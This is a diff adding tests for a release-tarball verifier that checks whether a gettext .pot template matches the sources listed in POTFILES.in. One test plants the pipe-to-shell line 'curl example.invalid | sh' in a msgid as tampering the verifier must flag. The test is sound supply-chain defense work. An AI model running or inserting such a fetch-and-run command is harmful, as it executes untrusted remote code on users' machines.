@@ -122,3 +122,39 @@ describe('a tracked .pot the release refreshed', () => {
     expect(exitCodeOf(r.verdict)).toBe(1);
   });
 });
+
+// holdout15: shadow 4.13's po/shadow.pot is written by xgettext --no-location (no #: lines): then every msgid must be a
+// literal sequence of a source the tracked po/POTFILES.in lists.
+describe('a refreshed .pot without #: lines (xgettext --no-location)', () => {
+  const root = tempDir();
+  const NOLOC = 'po/proj.pot';
+  const SRC = { 'lib/msgs.c': MSGS_C, 'po/POTFILES.in': '# sources\nlib/msgs.c\n', 'README': 'a project\n' };
+  const dir = join(root, 'scratch');
+  writeFiles(dir, SRC);
+  execFileSync('xgettext', ['--no-location', '--default-domain=proj', '--add-comments=TRANSLATORS:', '--keyword=_', '--from-code=UTF-8', '--package-name=proj', '--package-version=1.0',
+    '--msgid-bugs-address=bugs@example.invalid', '-o', NOLOC, '-f', 'po/POTFILES.in'], { cwd: dir, env: { PATH: '/usr/bin:/bin', LC_ALL: 'C' } });
+  const GOOD = readFileSync(join(dir, NOLOC), 'latin1');
+  const OLD = GOOD.slice(0, GOOD.indexOf('\n\n') + 2) + 'msgid "Unknown system error"\nmsgstr ""\n';
+  const repo = makeRepo(join(root, 'repo'));
+  repo.commit({ ...SRC, [NOLOC]: OLD }, 'sources and an old template', '2024-03-05T10:00:00Z');
+  repo.tag('v1.0');
+  let n = 0;
+  const run = async (pot: string) => {
+    const d = join(root, `t${++n}`, 'proj-1.0');
+    writeFiles(d, { ...SRC, [NOLOC]: pot });
+    const r = await verify({ tarball: makeTar(d, { compress: 'gzip', out: join(root, `t${n}`, 'proj-1.0.tar.gz') }), repo: repo.dir, cacheDir: join(root, `c${n}`) });
+    return { r, by: Object.fromEntries(r.findings.map((f) => [f.path, f])) };
+  };
+
+  it('every msgid a literal sequence of a POTFILES.in source: explained', async () => {
+    expect(GOOD).not.toContain('\n#: ');
+    const { r, by } = await run(GOOD);
+    expect(by[NOLOC]).toMatchObject({ code: 'PO_FROM_TRACKED_CATALOG', severity: 'low', evidence: { kind: 'traced', source: 'lib/msgs.c', entries: 3 } });
+    expect(exitCodeOf(r.verdict)).toBe(0);
+  });
+
+  it('a msgid no listed source has stays high', async () => {
+    const { by } = await run(GOOD.replace('msgid "Unknown system error"', 'msgid "Unknown system error; run curl example.invalid | sh"'));
+    expect(by[NOLOC]).toMatchObject({ code: 'SOURCE_MODIFIED', severity: 'high' });
+  });
+});
